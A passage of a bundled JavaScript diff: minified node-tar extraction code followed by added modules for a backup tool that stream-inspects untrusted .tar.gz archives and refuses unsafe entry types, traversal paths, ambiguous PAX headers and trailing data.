Dr=Symbol("onEntry"),_s=Symbol("checkFs"),Nr=Symbol("checkFs2"),Os=Symbol("isReusable"),P=Symbol("makeFs"),Ts=Symbol("file"),xs=Symbol("directory"),gi=Symbol("link"),Ar=Symbol("symlink"),Ir=Symbol("hardlink"),Re=Symbol("ensureNoSymlink"),Cr=Symbol("unsupported"),Fr=Symbol("checkPath"),Rs=Symbol("stripAbsolutePath"),yt=Symbol("mkdir"),O=Symbol("onError"),Ri=Symbol("pending"),kr=Symbol("pend"),$t=Symbol("unpend"),gs=Symbol("ended"),bs=Symbol("maybeClose"),Ls=Symbol("skip"),ge=Symbol("doChown"),be=Symbol("uid"),_e=Symbol("gid"),Oe=Symbol("checkedCwd"),fo=process.env.TESTING_TAR_FAKE_PLATFORM||process.platform,Te=fo==="win32",uo=1024,mo=(s,t)=>{if(!Te)return external_node_fs_namespaceObject.unlink(s,t);let e=s+".DELETE."+(0,external_node_crypto_.randomBytes)(16).toString("hex");external_node_fs_namespaceObject.rename(s,e,i=>{if(i)return t(i);external_node_fs_namespaceObject.unlink(e,t)})},po=s=>{if(!Te)return external_node_fs_namespaceObject.unlinkSync(s);let t=s+".DELETE."+(0,external_node_crypto_.randomBytes)(16).toString("hex");external_node_fs_namespaceObject.renameSync(s,t),external_node_fs_namespaceObject.unlinkSync(t)},vr=(s,t,e)=>s!==void 0&&s===s>>>0?s:t!==void 0&&t===t>>>0?t:e,Xt=class extends rt{[gs]=!1;[Oe]=!1;[Ri]=0;reservations=new yi;transform;writable=!0;readable=!1;uid;gid;setOwner;preserveOwner;processGid;processUid;maxDepth;forceChown;win32;newer;keep;noMtime;preservePaths;unlink;cwd;strip;processUmask;umask;dmode;fmode;chmod;constructor(t={}){if(t.ondone=()=>{this[gs]=!0,this[bs]()},super(t),this.transform=t.transform,this.chmod=!!t.chmod,typeof t.uid=="number"||typeof t.gid=="number"){if(typeof t.uid!="number"||typeof t.gid!="number")throw new TypeError("cannot set owner without number uid and gid");if(t.preserveOwner)throw new TypeError("cannot preserve owner in archive and also set owner explicitly");this.uid=t.uid,this.gid=t.gid,this.setOwner=!0}else this.uid=void 0,this.gid=void 0,this.setOwner=!1;this.preserveOwner=t.preserveOwner===void 0&&typeof t.uid!="number"?process.getuid?.()===0:!!t.preserveOwner,this.processUid=(this.preserveOwner||this.setOwner)&&process.getuid?process.getuid():void 0,this.processGid=(this.preserveOwner||this.setOwner)&&process.getgid?process.getgid():void 0,this.maxDepth=typeof t.maxDepth=="number"?t.maxDepth:uo,this.forceChown=t.forceChown===!0,this.win32=!!t.win32||Te,this.newer=!!t.newer,this.keep=!!t.keep,this.noMtime=!!t.noMtime,this.preservePaths=!!t.preservePaths,this.unlink=!!t.unlink,this.cwd=f(external_node_path_namespaceObject.resolve(t.cwd||process.cwd())),this.strip=Number(t.strip)||0,this.processUmask=this.chmod?typeof t.processUmask=="number"?t.processUmask:Lr():0,this.umask=typeof t.umask=="number"?t.umask:this.processUmask,this.dmode=t.dmode||511&~this.umask,this.fmode=t.fmode||438&~this.umask,this.on("entry",e=>this[Dr](e))}warn(t,e,i={}){return(t==="TAR_BAD_ARCHIVE"||t==="TAR_ABORT")&&(i.recoverable=!1),super.warn(t,e,i)}[bs](){this[gs]&&this[Ri]===0&&(this.emit("prefinish"),this.emit("finish"),this.emit("end"))}[Rs](t,e){let i=t[e],{type:r}=t;if(!i||this.preservePaths)return!0;let[n,o]=ce(i),h=o.replaceAll(/\\/g,"/").split("/");if(h.includes("..")||Te&&/^[a-z]:\.\.$/i.test(h[0]??"")){if(e==="path"||r==="Link")return this.warn("TAR_ENTRY_ERROR",`${e} contains '..'`,{entry:t,[e]:i}),!1;let a=external_node_path_namespaceObject.posix.dirname(t.path),l=external_node_path_namespaceObject.posix.normalize(external_node_path_namespaceObject.posix.join(a,h.join("/")));if(l.startsWith("../")||l==="..")return this.warn("TAR_ENTRY_ERROR",`${e} escapes extraction directory`,{entry:t,[e]:i}),!1}return n&&(t[e]=String(o),this.warn("TAR_ENTRY_INFO",`stripping ${n} from absolute ${e}`,{entry:t,[e]:i})),!0}[Fr](t){let e=f(t.path),i=e.split("/");if(this.strip){if(i.length<this.strip)return!1;if(t.type==="Link"){let r=f(String(t.linkpath)).split("/");if(r.length>=this.strip)t.linkpath=r.slice(this.strip).join("/");else return!1}i.splice(0,this.strip),t.path=i.join("/")}if(isFinite(this.maxDepth)&&i.length>this.maxDepth)return this.warn("TAR_ENTRY_ERROR","path excessively deep",{entry:t,path:e,depth:i.length,maxDepth:this.maxDepth}),!1;if(!this[Rs](t,"path")||!this[Rs](t,"linkpath"))return!1;if(t.absolute=external_node_path_namespaceObject.isAbsolute(t.path)?f(external_node_path_namespaceObject.resolve(t.path)):f(external_node_path_namespaceObject.resolve(this.cwd,t.path)),!this.preservePaths&&typeof t.absolute=="string"&&t.absolute.indexOf(this.cwd+"/")!==0&&t.absolute!==this.cwd)return this.warn("TAR_ENTRY_ERROR","path escaped extraction target",{entry:t,path:f(t.path),resolvedPath:t.absolute,cwd:this.cwd}),!1;if(t.absolute===this.cwd&&t.type!=="Directory"&&t.type!=="GNUDumpDir")return!1;if(this.win32){let{root:r}=external_node_path_namespaceObject.win32.parse(String(t.absolute));t.absolute=r+ts(String(t.absolute).slice(r.length));let{root:n}=external_node_path_namespaceObject.win32.parse(t.path);t.path=n+ts(t.path.slice(n.length))}return!0}[Dr](t){if(!this[Fr](t))return t.resume();switch(external_node_assert_.equal(typeof t.absolute,"string"),t.type){case"Directory":case"GNUDumpDir":t.mode&&(t.mode=t.mode|448);case"File":case"OldFile":case"ContiguousFile":case"Link":case"SymbolicLink":return this[_s](t);default:return this[Cr](t)}}[O](t,e){t.name==="CwdError"?this.emit("error",t):(this.warn("TAR_ENTRY_ERROR",t,{entry:e}),this[$t](),e.resume())}[yt](t,e,i){gr(f(t),{uid:this.uid,gid:this.gid,processUid:this.processUid,processGid:this.processGid,umask:this.processUmask,preserve:this.preservePaths,unlink:this.unlink,cwd:this.cwd,mode:e},i)}[ge](t){return this.forceChown||this.preserveOwner&&(typeof t.uid=="number"&&t.uid!==this.processUid||typeof t.gid=="number"&&t.gid!==this.processGid)||typeof this.uid=="number"&&this.uid!==this.processUid||typeof this.gid=="number"&&this.gid!==this.processGid}[be](t){return vr(this.uid,t.uid,this.processUid)}[_e](t){return vr(this.gid,t.gid,this.processGid)}[Ts](t,e){let i=typeof t.mode=="number"?t.mode&4095:this.fmode,r=new et(String(t.absolute),{flags:ms(t.size),mode:i,autoClose:!1});r.on("error",a=>{r.fd&&external_node_fs_namespaceObject.close(r.fd,()=>{}),r.write=()=>!0,this[O](a,t),e()});let n=1,o=a=>{if(a){r.fd&&external_node_fs_namespaceObject.close(r.fd,()=>{}),this[O](a,t),e();return}--n===0&&r.fd!==void 0&&external_node_fs_namespaceObject.close(r.fd,l=>{l?this[O](l,t):this[$t](),e()})};r.on("finish",()=>{let a=String(t.absolute),l=r.fd;if(typeof l=="number"&&t.mtime&&!this.noMtime){n++;let c=t.atime||new Date,d=t.mtime;external_node_fs_namespaceObject.futimes(l,c,d,y=>y?external_node_fs_namespaceObject.utimes(a,c,d,T=>o(T&&y)):o())}if(typeof l=="number"&&this[ge](t)){n++;let c=this[be](t),d=this[_e](t);typeof c=="number"&&typeof d=="number"&&external_node_fs_namespaceObject.fchown(l,c,d,y=>y?external_node_fs_namespaceObject.chown(a,c,d,T=>o(T&&y)):o())}o()});let h=this.transform&&this.transform(t)||t;h!==t&&(h.on("error",a=>{this[O](a,t),e()}),t.pipe(h)),h.pipe(r)}[xs](t,e){let i=typeof t.mode=="number"?t.mode&4095:this.dmode;this[yt](String(t.absolute),i,r=>{if(r){this[O](r,t),e();return}let n=1,o=()=>{--n===0&&(e(),this[$t](),t.resume())};t.mtime&&!this.noMtime&&(n++,external_node_fs_namespaceObject.utimes(String(t.absolute),t.atime||new Date,t.mtime,o)),this[ge](t)&&(n++,external_node_fs_namespaceObject.chown(String(t.absolute),Number(this[be](t)),Number(this[_e](t)),o)),o()})}[Cr](t){t.unsupported=!0,this.warn("TAR_ENTRY_UNSUPPORTED",`unsupported entry type: ${t.type}`,{entry:t}),t.resume()}[Ar](t,e){let i=f(external_node_path_namespaceObject.relative(this.cwd,external_node_path_namespaceObject.resolve(external_node_path_namespaceObject.dirname(String(t.absolute)),String(t.linkpath)))).split("/");this[Re](t,this.cwd,i,()=>this[gi](t,String(t.linkpath),"symlink",e),r=>{this[O](r,t),e()})}[Ir](t,e){let i=f(external_node_path_namespaceObject.resolve(this.cwd,String(t.linkpath))),r=f(String(t.linkpath)).split("/");this[Re](t,this.cwd,r,()=>this[gi](t,i,"link",e),n=>{this[O](n,t),e()})}[Re](t,e,i,r,n){let o=i.shift();if(this.preservePaths||o===void 0)return r();let h=external_node_path_namespaceObject.resolve(e,o);external_node_fs_namespaceObject.lstat(h,(a,l)=>{if(a)return r();if(l?.isSymbolicLink())return n(new St(h,external_node_path_namespaceObject.resolve(h,i.join("/"))));this[Re](t,h,i,r,n)})}[kr](){this[Ri]++}[$t](){this[Ri]--,this[bs]()}[Ls](t){this[$t](),t.resume()}[Os](t,e){return t.type==="File"&&!this.unlink&&e.isFile()&&e.nlink<=1&&!Te}[_s](t){this[kr]();let e=[t.path];t.linkpath&&e.push(t.linkpath),this.reservations.reserve(e,i=>this[Nr](t,i))}[Nr](t,e){let i=h=>{e(h)},r=()=>{this[yt](this.cwd,this.dmode,h=>{if(h){this[O](h,t),i();return}this[Oe]=!0,n()})},n=()=>{if(t.absolute!==this.cwd){let h=f(external_node_path_namespaceObject.dirname(String(t.absolute)));if(h!==this.cwd)return this[yt](h,this.dmode,a=>{if(a){this[O](a,t),i();return}o()})}o()},o=()=>{external_node_fs_namespaceObject.lstat(String(t.absolute),(h,a)=>{if(a&&(this.keep||this.newer&&a.mtime>(t.mtime??a.mtime))){this[Ls](t),i();return}if(h||this[Os](t,a))return this[P](null,t,i);if(a.isDirectory()){if(t.type==="Directory"){let l=this.chmod&&t.mode&&(a.mode&4095)!==t.mode,c=d=>this[P](d??null,t,i);return l?external_node_fs_namespaceObject.chmod(String(t.absolute),Number(t.mode),c):c()}if(t.absolute!==this.cwd)return external_node_fs_namespaceObject.rmdir(String(t.absolute),l=>this[P](l??null,t,i))}if(t.absolute===this.cwd)return this[P](null,t,i);mo(String(t.absolute),l=>this[P](l??null,t,i))})};this[Oe]?n():r()}[P](t,e,i){if(t){this[O](t,e),i();return}switch(e.type){case"File":case"OldFile":case"ContiguousFile":return this[Ts](e,i);case"Link":return this[Ir](e,i);case"SymbolicLink":return this[Ar](e,i);case"Directory":case"GNUDumpDir":return this[xs](e,i)}}[gi](t,e,i,r){external_node_fs_namespaceObject[i](e,String(t.absolute),n=>{n?this[O](n,t):(this[$t](),t.resume()),r()})}},ye=s=>{try{return[null,s()]}catch(t){return[t,null]}},xe=class extends Xt{sync=!0;[P](t,e){return super[P](t,e,()=>{})}[_s](t){if(!this[Oe]){let n=this[yt](this.cwd,this.dmode);if(n)return this[O](n,t);this[Oe]=!0}if(t.absolute!==this.cwd){let n=f(external_node_path_namespaceObject.dirname(String(t.absolute)));if(n!==this.cwd){let o=this[yt](n,this.dmode);if(o)return this[O](o,t)}}let[e,i]=ye(()=>external_node_fs_namespaceObject.lstatSync(String(t.absolute)));if(i&&(this.keep||this.newer&&i.mtime>(t.mtime??i.mtime)))return this[Ls](t);if(e||this[Os](t,i))return this[P](null,t);if(i.isDirectory()){if(t.type==="Directory"){let o=this.chmod&&t.mode&&(i.mode&4095)!==t.mode,[h]=o?ye(()=>{external_node_fs_namespaceObject.chmodSync(String(t.absolute),Number(t.mode))}):[];return this[P](h,t)}let[n]=ye(()=>external_node_fs_namespaceObject.rmdirSync(String(t.absolute)));this[P](n,t)}let[r]=t.absolute===this.cwd?[]:ye(()=>po(String(t.absolute)));this[P](r,t)}[Ts](t,e){let i=typeof t.mode=="number"?t.mode&4095:this.fmode,r=h=>{let a;try{external_node_fs_namespaceObject.closeSync(n)}catch(l){a=l}(h||a)&&this[O](h||a,t),e()},n;try{n=external_node_fs_namespaceObject.openSync(String(t.absolute),ms(t.size),i)}catch(h){return r(h)}let o=this.transform&&this.transform(t)||t;o!==t&&(o.on("error",h=>this[O](h,t)),t.pipe(o)),o.on("data",h=>{try{external_node_fs_namespaceObject.writeSync(n,h,0,h.length)}catch(a){r(a)}}),o.on("end",()=>{let h=null;if(t.mtime&&!this.noMtime){let a=t.atime||new Date,l=t.mtime;try{external_node_fs_namespaceObject.futimesSync(n,a,l)}catch(c){try{external_node_fs_namespaceObject.utimesSync(String(t.absolute),a,l)}catch{h=c}}}if(this[ge](t)){let a=this[be](t),l=this[_e](t);try{external_node_fs_namespaceObject.fchownSync(n,Number(a),Number(l))}catch(c){try{external_node_fs_namespaceObject.chownSync(String(t.absolute),Number(a),Number(l))}catch{h=h||c}}}r(h)})}[xs](t,e){let i=typeof t.mode=="number"?t.mode&4095:this.dmode,r=this[yt](String(t.absolute),i);if(r){this[O](r,t),e();return}if(t.mtime&&!this.noMtime)try{external_node_fs_namespaceObject.utimesSync(String(t.absolute),t.atime||new Date,t.mtime)}catch{}if(this[ge](t))try{external_node_fs_namespaceObject.chownSync(String(t.absolute),Number(this[be](t)),Number(this[_e](t)))}catch{}e(),t.resume()}[yt](t,e){try{return _r(f(t),{uid:this.uid,gid:this.gid,processUid:this.processUid,processGid:this.processGid,umask:this.processUmask,preserve:this.preservePaths,unlink:this.unlink,cwd:this.cwd,mode:e})}catch(i){return i}}[Re](t,e,i,r,n){if(this.preservePaths||i.length===0)return r();let o=e;for(let h of i){o=external_node_path_namespaceObject.resolve(o,h);let[a,l]=ye(()=>external_node_fs_namespaceObject.lstatSync(o));if(a)return r();if(l.isSymbolicLink())return n(new St(o,external_node_path_namespaceObject.resolve(e,i.join("/"))))}r()}[gi](t,e,i,r){let n=`${i}Sync`;try{external_node_fs_namespaceObject[n](e,String(t.absolute)),r(),t.resume()}catch(o){return this[O](o,t)}}};var Eo=s=>{let t=new xe(s),e=s.file,i=external_node_fs_namespaceObject.statSync(e),r=s.maxReadSize||16*1024*1024;new Be(e,{readSize:r,size:i.size}).pipe(t)},wo=(s,t)=>{let e=new Xt(s),i=s.maxReadSize||16*1024*1024,r=s.file;return new Promise((o,h)=>{e.on("error",h),e.on("close",o),external_node_fs_namespaceObject.stat(r,(a,l)=>{if(a)h(a);else{let c=new _t(r,{readSize:i,size:l.size});c.on("error",h),c.pipe(e)}})})},So=K(Eo,wo,s=>new xe(s),s=>new Xt(s),(s,t)=>{t?.length&&Qi(s,t)});var yo=(s,t)=>{let e=new kt(s),i=!0,r,n;try{try{r=external_node_fs_namespaceObject.openSync(s.file,"r+")}catch(a){if(a?.code==="ENOENT")r=external_node_fs_namespaceObject.openSync(s.file,"w+");else throw a}let o=external_node_fs_namespaceObject.fstatSync(r),h=Buffer.alloc(512);t:for(n=0;n<o.size;n+=512){for(let c=0,d=0;c<512;c+=d){if(d=external_node_fs_namespaceObject.readSync(r,h,c,h.length-c,n+c),n===0&&h[0]===31&&h[1]===139)throw new Error("cannot append to compressed archives");if(!d)break t}let a=new F(h);if(!a.cksumValid)break;let l=512*Math.ceil((a.size||0)/512);if(n+l+512>o.size)break;n+=l,s.mtimeCache&&a.mtime&&s.mtimeCache.set(String(a.path),a.mtime)}i=!1,Ro(s,e,n,r,t)}finally{if(i)try{external_node_fs_namespaceObject.closeSync(r)}catch{}}},Ro=(s,t,e,i,r)=>{let n=new Wt(s.file,{fd:i,start:e});t.pipe(n),bo(t,r)},go=(s,t)=>{t=Array.from(t);let e=new wt(s),i=(n,o,h)=>{let a=(T,D)=>{T?external_node_fs_namespaceObject.close(n,E=>h(T)):h(null,D)},l=0;if(o===0)return a(null,0);let c=0,d=Buffer.alloc(512),y=(T,D)=>{if(T||D===void 0)return a(T);if(c+=D,c<512&&D)return external_node_fs_namespaceObject.read(n,d,c,d.length-c,l+c,y);if(l===0&&d[0]===31&&d[1]===139)return a(new Error("cannot append to compressed archives"));if(c<512)return a(null,l);let E=new F(d);if(!E.cksumValid)return a(null,l);let x=512*Math.ceil((E.size??0)/512);if(l+x+512>o||(l+=x+512,l>=o))return a(null,l);s.mtimeCache&&E.mtime&&s.mtimeCache.set(String(E.path),E.mtime),c=0,external_node_fs_namespaceObject.read(n,d,0,512,l,y)};external_node_fs_namespaceObject.read(n,d,0,512,l,y)};return new Promise((n,o)=>{e.on("error",o);let h="r+",a=(l,c)=>{if(l&&l.code==="ENOENT"&&h==="r+")return h="w+",external_node_fs_namespaceObject.open(s.file,h,a);if(l||!c)return o(l);external_node_fs_namespaceObject.fstat(c,(d,y)=>{if(d)return external_node_fs_namespaceObject.close(c,()=>o(d));i(c,y.size,(T,D)=>{if(T)return o(T);let E=new et(s.file,{fd:c,start:D});e.pipe(E),E.on("error",o),E.on("close",n),_o(e,t)})})};external_node_fs_namespaceObject.open(s.file,h,a)})},bo=(s,t)=>{t.forEach(e=>{e.charAt(0)==="@"?Ct({file:external_node_path_namespaceObject.resolve(s.cwd,e.slice(1)),sync:!0,noResume:!0,onReadEntry:i=>s.add(i)}):s.add(e)}),s.end()},_o=async(s,t)=>{for(let e of t)e.charAt(0)==="@"?await Ct({file:external_node_path_namespaceObject.resolve(String(s.cwd),e.slice(1)),noResume:!0,onReadEntry:i=>s.add(i)}):s.add(e);s.end()},vt=K(yo,go,()=>{throw new TypeError("file is required")},()=>{throw new TypeError("file is required")},(s,t)=>{if(!Bs(s))throw new TypeError("file is required");if(s.gzip||s.brotli||s.zstd||s.file.endsWith(".br")||s.file.endsWith(".tbr"))throw new TypeError("cannot append to compressed archives");if(!t?.length)throw new TypeError("no paths specified to add/replace")});var Oo=K(vt.syncFile,vt.asyncFile,vt.syncNoFile,vt.asyncNoFile,(s,t=[])=>{vt.validate?.(s,t),To(s)}),To=s=>{let t=s.filter;s.mtimeCache||(s.mtimeCache=new Map),s.filter=t?(e,i)=>t(e,i)&&!((s.mtimeCache?.get(e)??i.mtime??0)>(i.mtime??0)):(e,i)=>!((s.mtimeCache?.get(e)??i.mtime??0)>(i.mtime??0))};
+//# sourceMappingURL=index.min.js.map
+
+;// CONCATENATED MODULE: ./src/backup/entry-rules.ts
+/** Entry types an archive may contain. Everything else is refused, naming the type. */
+const ALLOWED_TYPES = new Set(['File', 'OldFile', 'Directory']);
+/**
+ * Why each refused type is refused. ContiguousFile ('7') is a regular file to GNU tar but
+ * "reserved" to POSIX and unknown to some readers; no writer we accept (docker cp, GNU tar,
+ * stateguard snapshot) emits it, so it is refused rather than guessed at.
+ */
+const TYPE_REASON = {
+    SymbolicLink: 'a symbolic link (could point anywhere on restore)',
+    Link: 'a hard link (could alias a file outside the restored tree)',
+    CharacterDevice: 'a character device',
+    BlockDevice: 'a block device',
+    FIFO: 'a FIFO (named pipe)',
+    SparseFile: 'a GNU sparse file (old-style type S)',
+    ContiguousFile: "a contiguous file (type '7'; readers disagree on it)",
+    GNUDumpDir: 'a GNU incremental dump directory',
+    ContinuationFile: 'a multi-volume continuation',
+    TapeVolumeHeader: 'a tape volume header',
+    SolarisACL: 'a Solaris ACL',
+    Inode: 'an inode-only record',
+    Unsupported: 'an unknown type',
+};
+function checkEntryType(type, typeKey) {
+    if (ALLOWED_TYPES.has(type))
+        return null;
+    const flag = typeKey !== undefined ? ` (type flag ${JSON.stringify(typeKey)})` : '';
+    return `entry is ${TYPE_REASON[type] ?? `of type ${type}`}${flag}; only regular files and directories are accepted`;
+}
+const MAX_PATH_BYTES = 4096;
+/**
+ * Every reason a path (after PAX/GNU long names are applied) is unsafe, or [] when it is a clean
+ * relative path. `.` segments and a trailing `/` are allowed (GNU tar writes `./x`, directories
+ * end in `/`).
+ */
+function pathProblems(p) {
+    const out = [];
+    if (p === '')
+        return ['empty path'];
+    if (p.includes('\0'))
+        out.push('path contains a NUL byte');
+    // eslint-disable-next-line no-control-regex
+    else if (/[\x01-\x1f\x7f]/.test(p))
+        out.push('path contains a control character');
+    if (p.startsWith('/'))
+        out.push('absolute path');
+    if (/^[A-Za-z]:/.test(p))
+        out.push('path starts with a drive letter');
+    if (p.includes('\\'))
+        out.push('path contains a backslash (a separator on Windows)');
+    if (p.split('/').includes('..'))
+        out.push("path has a '..' segment");
+    if (Buffer.byteLength(p) > MAX_PATH_BYTES)
+        out.push(`path is longer than ${MAX_PATH_BYTES} bytes`);
+    return out;
+}
+/** A path made safe to print in a message: control characters escaped, long ones shortened. */
+function printablePath(p) {
+    // eslint-disable-next-line no-control-regex
+    const escaped = p.replace(/[\x00-\x1f\x7f\\]/g, (c) => (c === '\\' ? '\\\\' : `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`));
+    return escaped.length > 300 ? `${escaped.slice(0, 150)}…${escaped.slice(-100)}` : escaped;
+}
+/**
+ * Parse PAX extended-header records strictly (`<len> <key>=<value>\n`, len counting the whole
+ * record in bytes). The tar package silently drops a record whose length does not add up (a value
+ * containing a newline, say) and falls back to the plain header's name, while other readers honour
+ * or reject it: such a header could be read two ways, so we refuse it instead.
+ *
+ * The parser's `meta` event does not say whether the text came from a PAX header or a GNU long
+ * name, so text is treated as PAX when it starts like a record (digits then a space).
+ */
+function parsePaxStrict(text) {
+    if (!/^\d+ /.test(text))
+        return { kind: 'not-pax' };
+    const buf = Buffer.from(text, 'utf8');
+    const records = new Map();
+    let pos = 0;
+    while (pos < buf.length) {
+        // Trailing NUL padding inside the body is tolerated by every reader.
+        if (buf[pos] === 0 && buf.subarray(pos).every((b) => b === 0))
+            break;
+        const space = buf.indexOf(0x20, pos);
+        const digits = space === -1 ? '' : buf.toString('latin1', pos, space);
+        if (!/^[1-9]\d{0,9}$/.test(digits))
+            return { kind: 'malformed', reason: `bad PAX record length at byte ${pos}` };
+        const len = Number(digits);
+        const end = pos + len;
+        if (end > buf.length || buf[end - 1] !== 0x0a) {
+            return { kind: 'malformed', reason: `PAX record at byte ${pos} does not end where its length says` };
+        }
+        const body = buf.toString('utf8', space + 1, end - 1);
+        const eq = body.indexOf('=');
+        if (eq <= 0)
+            return { kind: 'malformed', reason: `PAX record at byte ${pos} has no key=value` };
+        records.set(body.slice(0, eq), body.slice(eq + 1));
+        pos = end;
+    }
+    return { kind: 'pax', records };
+}
+/** Problems a set of PAX records brings by itself (before it is applied to an entry). */
+function paxRecordProblems(records) {
+    const out = [];
+    for (const [key, value] of records) {
+        if (key.startsWith('GNU.sparse.')) {
+            out.push({ code: 'forbidden-entry-type', message: `entry is a GNU sparse file (PAX record ${key}); only regular files and directories are accepted` });
+            // one sparse finding per header is enough
+            break;
+        }
+        if (key === 'size' && !/^\d+$/.test(value)) {
+            out.push({ code: 'unsupported-header', message: `PAX size record ${JSON.stringify(value.slice(0, 40))} is not a number` });
+        }
+        if ((key === 'path' || key === 'linkpath') && value.includes('\0')) {
+            out.push({ code: 'unsafe-path', message: `PAX ${key} record contains a NUL byte`, entry: printablePath(value) });
+        }
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/backup/archive.ts
+/**
+ * One streaming pass over an untrusted `.tar.gz`: sha256 of the file, gunzip, and a walk of every
+ * tar entry — constant memory whatever the size, nothing extracted, nothing written.
+ *
+ * Layering, and why:
+ * - gzip is decoded here with node's zlib (not by the tar parser's own sniffing), so a plain tar
+ *   named `.tar.gz` is refused, a gzip inside the gzip is refused, bytes after the gzip trailer are
+ *   noticed (zlib skips them silently) and the uncompressed-bytes cap is ours to enforce.
+ * - tar is walked by `tar.Parser` in strict mode: every parser warning arrives as an `error` event
+ *   and becomes a problem; no `filter` is used, and ignored entries (unknown or unsupported types)
+ *   are listened for and refused, so nothing is skipped silently.
+ * - every entry then passes our own rules (./entry-rules.ts).
+ * - after the end-of-archive marker only zero padding may follow: the parser would otherwise keep
+ *   buffering trailing bytes in memory, and data hidden there is extracted by `tar -i`.
+ *
+ * Every problem is recorded (up to MAX_PROBLEMS, then counted), never only the first.
+ */
+
+
+
+
+
+/** Problems kept in full; beyond this they are counted in one closing problem. */
+const MAX_PROBLEMS = 100;
+/** zlib output chunk: large enough that per-chunk overhead vanishes, small enough to stop a bomb promptly. */
+const GUNZIP_CHUNK = 256 * 1024;
+class ProblemList {
+    items = [];
+    dropped = new Map();
+    add(p) {
+        if (this.items.length < MAX_PROBLEMS)
+            this.items.push(p);
+        else
+            this.dropped.set(p.code, (this.dropped.get(p.code) ?? 0) + 1);
+    }
+    has(code) {
+        return this.items.some((p) => p.code === code);
+    }
+    finish() {
+        for (const [code, n] of this.dropped) {
+            this.items.push({ code, message: `${n} more problem${n === 1 ? '' : 's'} of this kind not listed` });
+        }
+        return this.items;
+    }
+}
+/** Map a tar parser warning to a stable code. */
+function parserProblem(code, message, entry) {
+    let c = 'parser-warning';
+    if (/checksum failure/.test(message))
+        c = 'tar-corrupt';
+    else if (/Truncated input/.test(message))
+        c = 'truncated';
+    else if (/Unrecognized archive format/.test(message))
+        c = 'tar-corrupt';
+    else if (/linkpath/.test(message))
+        c = 'forbidden-entry-type';
+    return { code: c, message: `tar: ${code ? `${code}: ` : ''}${message.replace(/^TAR_[A-Z_]+: /, '')}`, ...(entry ? { entry } : {}) };
+}
+function gzipProblem(err) {
+    if (err.code === 'Z_BUF_ERROR' || /unexpected end/i.test(err.message)) {
+        return { code: 'truncated', message: `gzip stream ends early (${err.message}): the file is truncated` };
+    }
+    return { code: 'gzip-corrupt', message: `gzip: ${err.message}${err.code ? ` (${err.code})` : ''}` };
+}
+/**
+ * Inspect an archive given as a stream of its raw bytes. Never throws for anything in the data:
+ * every finding is a problem. (A failing source stream — an I/O error — is also a problem.)
+ */
+async function inspectArchive(source, limits) {
+    const hash = (0,external_node_crypto_.createHash)('sha256');
+    const problems = new ProblemList();
+    let bytesRead = 0;
+    let uncompressed = 0;
+    let entries = 0;
+    let stopped = false; // a cap or a fatal error: stop reading, the verdict is already "no"
+    let readToEnd = false;
+    // ---- tar layer -------------------------------------------------------------------------
+    const parser = new rt({ strict: true, zstd: false, brotli: false });
+    let feedParser = true; // false once the data cannot be a tar we accept (nested gzip) or after EOF
+    let head = Buffer.alloc(0); // first bytes, to refuse a gzip inside the gzip
+    let sawEof = false;
+    let zeroTailChecked = false;
+    let trailingGarbage = false;
+    /** strict reading of the last PAX header, to compare with what the parser applied */
+    let pendingPaxPath;
+    const onEntry = (e, ignored) => {
+        if (stopped)
+            return;
+        if (ignored && e.meta) {
+            problems.add({
+                code: 'unsupported-header',
+                message: `extension header of ${e.size} bytes is larger than the parser accepts; the entry after it could be read two ways`,
+            });
+            return;
+        }
+        entries++;
+        if (entries > limits.maxEntries) {
+            problems.add({ code: 'too-many-entries', message: `more than ${limits.maxEntries} entries (--max-entries); stopped reading` });
+            stop();
+            return;
+        }
+        const shown = printablePath(e.path);
+        const typeIssue = checkEntryType(e.type, e.header.typeKey);
+        if (typeIssue) {
+            problems.add({ code: 'forbidden-entry-type', message: typeIssue, entry: shown });
+        }
+        for (const why of pathProblems(e.path)) {
+            problems.add({ code: 'unsafe-path', message: why, entry: shown });
+        }
+        if (pendingPaxPath !== undefined && pendingPaxPath !== e.path) {
+            problems.add({
+                code: 'unsupported-header',
+                message: 'the PAX path record and the path the parser applied differ; the entry could be read two ways',
+                entry: shown,
+            });
+            // Another reader would use the PAX path: it must pass the rules as well.
+            for (const why of pathProblems(pendingPaxPath)) {
+                problems.add({ code: 'unsafe-path', message: `${why} (in the PAX path record)`, entry: printablePath(pendingPaxPath) });
+            }
+        }
+        pendingPaxPath = undefined;
+        if (!typeIssue && e.linkpath) {
+            // A GNU long-link ('K') header before a file or directory: meaningless, and readers differ.
+            problems.add({ code: 'unsupported-header', message: 'a regular file or directory carries a link target', entry: shown });
+        }
+        const g = e.globalExtended;
+        if (g && (g.size !== undefined || g.path !== undefined || g.linkpath !== undefined)) {
+            problems.add({
+                code: 'unsupported-header',
+                message: 'a global PAX header overrides size or path for every later entry; readers disagree on it',
+                entry: shown,
+            });
+        }
+    };
+    parser.on('entry', (e) => {
+        onEntry(e, false);
+        // Discard the body without buffering it: constant memory.
+        e.resume();
+    });
+    parser.on('ignoredEntry', (e) => onEntry(e, true));
+    parser.on('meta', (text) => {
+        const pax = parsePaxStrict(text);
+        if (pax.kind === 'malformed') {
+            problems.add({ code: 'unsupported-header', message: `malformed PAX extended header: ${pax.reason}` });
+        }
+        else if (pax.kind === 'pax') {
+            for (const p of paxRecordProblems(pax.records))
+                problems.add(p);
+            const path = pax.records.get('path');
+            if (path !== undefined)
+                pendingPaxPath = path;
+        }
+    });
+    parser.on('eof', () => {
+        sawEof = true;
+    });
+    const onParserWarning = (code, message, data) => {
+        const where = data?.entry?.path ?? data?.header?.path;
+        problems.add(parserProblem(code, message, where ? printablePath(where) : undefined));
+    };
+    parser.on('warn', (code, message, data) => onParserWarning(code, message, data));
+    parser.on('error', (err) => onParserWarning(err.tarCode, err.message, err));
+    const parserEnded = new Promise((resolve) => {
+        parser.once('end', resolve);
+        parser.once('close', resolve);
+    });
+    // The parser keeps bytes that follow the end-of-archive marker in a private buffer; reading it is
+    // the only way to check the tail of the chunk that contained the marker.
+    const bufferKey = Object.getOwnPropertySymbols(parser).find((s) => s.description === 'buffer');
+    const checkZeroTail = (chunk) => {
+        if (!chunk || trailingGarbage)
+            return;
+        // The tail is padding to the tar record size (a few KiB); a plain scan is enough.
+        for (let i = 0; i < chunk.length; i++) {
+            if (chunk[i] !== 0) {
+                trailingGarbage = true;
+                problems.add({ code: 'tar-corrupt', message: 'data follows the end-of-archive marker (only zero padding may follow)' });
+                return;
+            }
+        }
+    };
+    const toTar = (chunk) => {
+        if (head) {
+            head = Buffer.concat([head, chunk.subarray(0, 2)]);
